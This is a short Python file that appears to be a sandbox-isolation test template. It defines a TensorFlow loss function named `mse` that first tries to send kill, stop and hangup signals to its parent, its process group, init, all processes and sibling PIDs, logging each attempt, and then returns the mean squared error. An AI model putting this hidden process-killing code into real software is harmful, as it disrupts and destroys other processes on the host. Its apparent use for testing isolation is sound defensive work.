"""Sends every signal that could end somebody to everybody it can name."""
import os
import signal

import tensorflow as tf
from attempts import Attempts

attempt = Attempts()


def mse(y_true, y_pred):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGHUP):
        for pid in (os.getppid(), 0, -1, 1, @VICTIM@, @PID@, -@VICTIM@, -os.getppid()):
            attempt(f"kill {pid}", lambda: os.kill(pid, number))
        attempt("killpg", lambda: os.killpg(0, number))
        for pid in range(max(2, os.getpid() - 8), os.getpid()):
            attempt(f"kill sibling {pid}", lambda: os.kill(pid, number))
    attempt("pidfd_open", lambda: os.pidfd_open(os.getppid()))
    attempt.report()
    return tf.reduce_mean(tf.square(y_pred - y_true))
